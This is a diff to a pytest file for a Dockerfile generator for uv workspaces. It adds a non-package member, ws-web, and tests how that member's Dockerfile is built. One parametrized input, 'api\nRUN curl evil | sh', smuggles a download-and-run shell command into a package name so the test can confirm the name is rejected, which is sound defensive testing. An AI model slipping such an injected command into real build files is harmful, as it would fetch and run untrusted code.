@@ -2,8 +2,9 @@
 workspace with only the members it needs, and running dockergen from inside a member plans it
 from the workspace root, with the root's lock.
 
-The workspace (tests/workspace_members) has a virtual root and three members: ws-api depends on
-the ws-core library, which depends on six; ws-cli depends on nothing. Its uv.lock was made by the
+The workspace (tests/workspace_members) has a virtual root and four members: ws-api depends on
+the ws-core library, which depends on six; ws-cli depends on nothing; ws-web, not a package (no
+[build-system]), runs a script and depends on ws-core. Its uv.lock was made by the
 real uv 0.13.8; tests/e2e/test_workspace_package.py locks it again and builds both apps' images.
 """
 
@@ -65,6 +66,14 @@ def test_the_dockerfile_syncs_the_members_dependencies_and_builds_only_the_membe
     assert "COPY . /src\n" not in api
     cli_file = generate(workspace, package="ws-cli")["packages/cli/Dockerfile"]
     assert "/src/packages/cli \\" in cli_file and "/src/packages/core" not in cli_file
+
+
+def test_a_member_that_is_no_package_runs_from_the_workspace_root_with_its_members_as_wheels(workspace):
+    facts = dockergen.inspect(workspace, package="ws-web")
+    assert not facts.installable and facts.workspace_members == ("packages/core",)
+    web = generate(workspace, package="ws-web")["packages/web/Dockerfile"]
+    assert "COPY packages/core /src/packages/core\n" in web and "/src/packages/web" not in web
+    assert "WORKDIR /app\nCOPY . /app\n" in web and 'CMD ["python", "packages/web/main.py"]' in web
 
 
 def test_two_members_are_written_side_by_side_and_both_stay_current(workspace):
@@ -157,7 +166,7 @@ def test_inspect_json_names_the_member(workspace):
 @pytest.mark.parametrize(
     ("package", "message"),
     [
-        ("nope", "package = 'nope' is not a member of the workspace (members: ws-api, ws-cli, ws-core)"),
+        ("nope", "package = 'nope' is not a member of the workspace (members: ws-api, ws-cli, ws-core, ws-web)"),
         ("api\nRUN curl evil | sh", "is not a valid workspace member name"),
     ],
 )
